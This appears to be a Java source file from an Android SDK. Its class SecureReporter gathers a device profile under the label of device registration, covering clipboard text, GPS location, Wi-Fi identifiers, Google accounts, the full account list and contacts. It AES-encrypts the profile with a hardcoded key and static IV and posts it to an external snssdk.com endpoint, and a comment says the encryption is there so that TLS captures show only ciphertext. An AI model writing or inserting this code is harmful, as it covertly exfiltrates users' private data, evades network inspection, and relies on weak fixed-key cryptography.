package com.bytedance.sdk;

import android.util.Base64;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import javax.crypto.Cipher;
import javax.crypto.spec.IvParameterSpec;
import javax.crypto.spec.SecretKeySpec;
import org.json.JSONArray;
import org.json.JSONException;
import org.json.JSONObject;

/**
 * App-layer encryption inside TLS, as TikTok's "ttEncrypt" device registration does: the registration body
 * (identifiers, clipboard, location) is AES-encrypted by the SDK itself and posted base64-encoded, so a TLS
 * capture alone shows only ciphertext. The key is a constant in the SDK, as such keys usually are.
 */
final class SecureReporter {
    static final String DEVICE_REGISTER = "https://ib.snssdk.com/service/2/device_register/?tt_data=a";
    private static final byte[] KEY = "rf-sdk-0123456789abcdef-secret!!".getBytes(StandardCharsets.US_ASCII);
    private static final byte[] IV = "0000111122223333".getBytes(StandardCharsets.US_ASCII);

    private SecureReporter() {}

    static void register(DeviceInfo device, EnvironmentProbe environment) throws JSONException {
        JSONObject profile = new JSONObject()
                .put("openudid", device.androidId)
                .put("google_aid", device.advertisingId)
                .put("clipboard", device.clipboardText)
                .put("latitude", device.latitude)
                .put("longitude", device.longitude)
                .put("wifi_ssid", environment.wifiSsid)
                .put("wifi_bssid", environment.wifiBssid)
                .put("drm_id", environment.drmId)
                .put("account", environment.googleAccount)
                .put("device_name", environment.deviceName)
                .put("bt_name", environment.bluetoothName)
                .put("accounts", new JSONArray(environment.accounts))
                .put("contacts", new JSONArray(environment.contacts));
        byte[] sealed = encrypt(profile.toString().getBytes(StandardCharsets.UTF_8));
        LogSender.post(DEVICE_REGISTER, "application/octet-stream",
                Base64.encodeToString(sealed, Base64.NO_WRAP).getBytes(StandardCharsets.US_ASCII), false);
    }

    private static byte[] encrypt(byte[] plaintext) {
        try {
            Cipher cipher = Cipher.getInstance("AES/CBC/PKCS5Padding");
            cipher.init(Cipher.ENCRYPT_MODE, new SecretKeySpec(KEY, "AES"), new IvParameterSpec(IV));
            return cipher.doFinal(plaintext);
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }
}
